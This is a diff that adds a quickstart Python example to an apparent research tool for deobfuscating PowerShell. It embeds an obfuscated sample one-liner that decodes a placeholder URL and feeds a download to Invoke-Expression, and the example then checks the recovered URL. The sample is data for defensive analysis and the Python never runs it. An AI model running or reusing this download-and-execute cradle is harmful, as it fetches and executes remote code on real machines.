@@ -1,0 +1,46 @@
+#!/usr/bin/env python3
+"""Quickstart: deobfuscate a malicious-looking PowerShell one-liner.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro import deobfuscate
+
+OBFUSCATED = (
+    "I`E`X (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n"
+    "$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n"
+    "$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n"
+    "$sdfs = [TeXT.eNcOdINg]::Unicode.GetString("
+    "[Convert]::FromBase64String($xdjmd + $lsffs))\n"
+    ".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient)"
+    ".downloadstring($sdfs)"
+)
+
+
+def main() -> None:
+    print("=== obfuscated input (the paper's Fig 7a) ===")
+    print(OBFUSCATED)
+    print()
+
+    result = deobfuscate(OBFUSCATED)
+
+    print("=== deobfuscated output (the paper's Fig 7d) ===")
+    print(result.script)
+    print()
+    print(
+        f"iterations: {result.iterations}, "
+        f"layers unwrapped: {result.layers_unwrapped}, "
+        f"pieces recovered: {result.stats.get('pieces_recovered', 0)}, "
+        f"variables traced: {result.stats.get('variables_traced', 0)}"
+    )
+    print(f"elapsed: {result.elapsed_seconds * 1000:.1f} ms")
+
+    # The malicious URL is now in the clear; the download call survives
+    # as *code* (its method is on the blocklist and never executed).
+    assert "https://test.com/malware.txt" in result.script
+    assert "downloadstring" in result.script.lower()
+    print("\nrecovered C2 URL: https://test.com/malware.txt")
+
+
+if __name__ == "__main__":
+    main()
